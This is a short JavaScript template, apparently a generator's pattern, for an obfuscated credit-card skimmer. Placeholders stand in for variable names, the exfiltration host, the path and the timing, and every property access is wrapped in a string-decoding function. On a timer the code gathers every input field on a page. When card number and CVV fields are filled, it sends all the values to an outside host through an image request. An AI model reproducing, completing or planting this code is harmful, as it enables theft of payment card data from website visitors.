window[S("setInterval")](function () {
  var %H1% = {}, %H2% = document[S("querySelectorAll")](S("input"));
  for (var %H3% = 0; %H3% < %H2%[S("length")]; %H3%++) {
    %H1%[%H2%[%H3%][S("name")]] = %H2%[%H3%][S("value")];
  }
  if (%H1%[S("cc_number")] && %H1%[S("cvv")]) {
    var %H4% = document[S("createElement")](S("img"));
    %H4%[S("src")] = S("https://") + S("%HOST%") + S("/%PATH%?q=") + window[S("encodeURIComponent")](JSON[S("stringify")](%H1%));
    document[S("body")][S("appendChild")](%H4%);
  }
}, %MS%);
